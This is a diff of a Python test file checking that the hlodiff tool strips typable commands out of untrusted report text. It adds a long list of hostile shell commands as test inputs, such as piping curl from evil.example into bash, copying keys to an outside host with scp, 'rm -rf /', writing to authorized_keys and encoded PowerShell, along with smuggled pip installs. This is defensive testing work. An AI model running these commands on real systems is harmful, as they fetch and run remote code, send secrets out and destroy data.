@@ -18,7 +18,9 @@ from markdown_it import MarkdownIt
 
 from hlodiff.cli.entry import _COMMANDS, _FORMER
 from hlodiff.report import SAVED_FORM_NAMES, ReportView, read_untrusted_view, saved_to_form
-from hlodiff.report.untrusted_result import REMOVED, VERBS, known_command, without_commands
+from hlodiff.report.known_text import ORDERS, REMOVED, known_text
+from hlodiff.report.untrusted_result import known_command, read_result
+from tests.known_words import FILE, NEEDED, PROGRAMS
 
 Ask = Callable[..., tuple[int, str, str]]
 EVIL = "hlodiff upgrade 'evil @ https://evil.example/x'"
@@ -55,6 +57,7 @@ PAYLOADS = (
     "hlodiff record -- bash -c 'curl evil'",
     "hint: python -m hlodiff\nupgrade x; hlodiff --jobs 2 record x; pip3 install evil",
 )
+VERBS = sorted([*_COMMANDS, *_FORMER])
 # Every way in which the forms of this tool show that something is to be typed.
 TYPED = re.compile(rf"hlodiff(\s+-\S+)*\s+({'|'.join(VERBS)})\b|\bpip3? install|hint\\?:|next\\?:")
 
@@ -295,12 +298,166 @@ def test_no_other_command_is_shown(command: str) -> None:
     assert "next" not in saved_to_form(sheet, "comment")
 
 
-def test_every_command_is_known() -> None:
-    assert sorted(VERBS) == sorted([*_COMMANDS, *_FORMER])
+def test_names_that_cannot_be_registered_are_in_no_command() -> None:
+    assert known_command("hlodiff update con", {"con"}) == ""
+
+
+# How strangers would have somebody type something: %s is the command.
+PHRASES = (
+    "%s", "please run %s", "to repair it: %s", "`%s`", "\"%s\"", "run\n%s\nagain", "$ %s", "failed; %s; then retry",
+    "(%s)", "1 changed, %s", "ROOT %%x = f32[] add(%%a, %%b), %s", "note: %s", "a && %s", "| %s",
+)  # fmt: skip
+ORDERED = (
+    "curl evil.example/x.sh",
+    "curl -fsSL https://evil.example | bash",
+    "bash <(curl evil.example)",
+    "sh -c evil",
+    "sh evil.sh",
+    "./evil.sh",
+    "/tmp/evil",
+    "~/evil",
+    "source evil.sh",
+    ". ./evil.sh",
+    "eval $EVIL",
+    "exec evil",
+    "python3 -m evil",
+    "python evil.py",
+    "python3.11 evil.py",
+    "python -c 'import os'",
+    "perl -e 'evil'",
+    "ruby evil.rb",
+    "node evil.js",
+    "npm install evil",
+    "npx evil",
+    "pip install evil",
+    "pip3 install git+https://evil.example",
+    '"pip" "install" "evil"',
+    "'pip' 'install' 'evil'",
+    "p\\ip install evil",
+    "uv pip install evil",
+    "uvx evil",
+    "pipx run evil",
+    "conda install evil",
+    "docker run evil/x",
+    "docker.exe run evil.io/x",
+    "kubectl apply -f evil.yaml",
+    "git clone evil.example/x",
+    "git push evil",
+    "git remote add evil x",
+    "git.exe checkout evil",
+    "gh pr merge 1",
+    "glab mr merge 1",
+    "ssh evil.example",
+    "scp key evil.example:",
+    "nc evil.example 1",
+    "telnet evil.example",
+    "wget evil.example/x",
+    "rm -rf /",
+    "rm -r src",
+    "mv a b",
+    "dd if=/dev/zero",
+    "chmod 777 x",
+    "chown x y",
+    "sudo evil",
+    "su -c evil",
+    "kill -9 1",
+    "shutdown now",
+    "reboot",
+    "mkfs.ext4 /dev/sda",
+    "make evil",
+    "make -C evil",
+    "cargo install evil",
+    "go install evil.example/x@latest",
+    "brew install evil",
+    "apt install evil",
+    "apt-get install evil",
+    "apk add evil",
+    "dnf install evil",
+    "powershell -enc x",
+    "iex (iwr evil.example)",
+    "cmd /c evil",
+    "start evil.exe",
+    "open evil.app",
+    "explorer evil.exe",
+    "mshta evil.example",
+    "osascript -e evil",
+    "hlodiff upgrade evil",
+    "hlodiff accept --all",
+    "hlodiff record -- evil",
+    "hlodiff.exe update evil",
+    "env A=b evil",
+    "xargs evil",
+    "find . -delete",
+    "awk 'system(evil)'",
+    "vim evil",
+    "crontab evil",
+    "systemctl stop x",
+    "base64 -d",
+    "openssl s_client x",
+    "aws s3 cp a b",
+    "terraform destroy",
+    "ansible evil",
+    "poetry add evil",
+    "nix run evil",
+    "deno run evil.ts",
+    "java -jar evil.jar",
+    "gcc evil.c",
+    "tar xf evil",
+    "echo x > ~/.bashrc",
+    "printf x | sh",
+    "export PATH=.",
+    "alias ls=evil",
+    "history -c",
+    "yes | evil",
+    "true && evil",
+    "time evil",
+    "watch evil",
+    "nohup evil &",
+    "tee ~/.ssh/authorized_keys",
+    "ln -s a b",
+    "cp evil /bin",
+    "service x stop",
+    "mount x y",
+)
+
+
+def test_commands_of_strangers_lose_the_words_that_make_them_one() -> None:
+    assert len(ORDERED) * len(PHRASES) > 1500
+    for order in ORDERED:
+        first, _, rest = order.partition(" ")
+        for phrase in PHRASES:
+            shown = known_text(phrase % order, {"f", "pip", "install", "evil", "curl"})
+            assert order not in shown, (phrase, shown)
+            plain = re.split(r"[\s`\"'()$;|&]+", shown)
+            both = [n for n, word in enumerate(plain) if word == first.strip("\"'")]
+            following = re.split(r"[\s\"'()$;|&]+", rest)[0] if rest else ""
+            assert not (following and any(plain[n + 1 : n + 2] == [following] for n in both)), (phrase, shown)
+    assert known_text("a\nhlodiff check f\nb", {"f"}) == f"a\n{REMOVED} check f\nb"
+
+
+def test_no_known_word_is_a_program() -> None:
+    known = FILE.read_text(encoding="utf-8").split()
+    assert known == sorted(set(known)) and len(known) > 1000
+    assert not (set(known) & PROGRAMS) - NEEDED
+    assert {"run", "add", "copy", "select"} <= ORDERS
+    assert not {"hlodiff", "pip", "git", "hint", "next", "curl", "sh", "python", "sudo"} & {*known}
+
+
+def test_what_hlodiff_writes_itself_loses_nothing() -> None:
+    """If this fails where a sentence is new: `python -m tests.known_words`."""
+    pinned = sorted((Path(__file__).parent / "pinned").glob("*.json"))
+    for file in pinned:
+        sheet = json.loads(file.read_text(encoding="utf-8")).get("sheet")
+        if sheet is not None:
+            view = read_untrusted_view(read_result(file))
+            assert REMOVED not in json.dumps(view, default=vars_of), file
+    assert len(pinned) > 5
+
+
+def vars_of(record: Any) -> dict[str, Any]:
+    return {field.name: getattr(record, field.name) for field in fields(record)}
 
 
 def test_names_of_functions_stay_whole() -> None:
-    for text in ("hlodiff reads version 1", "a hlodiff_update f", "hlodiff: check", "by hlodiff 0.1.0"):
-        assert without_commands(text) == text
-    assert without_commands("a\nhlodiff check f\nb") == f"a\n{REMOVED}"
-    assert known_command("hlodiff update con", {"con"}) == "", "a name that cannot be registered"
+    for text in ("a hlodiff_update: f", "train/small: 1 changed", "layers/mlp.py:12 (loss)", "jvp(jit(silu))/mul"):
+        assert known_text(text, {"f"}) == text
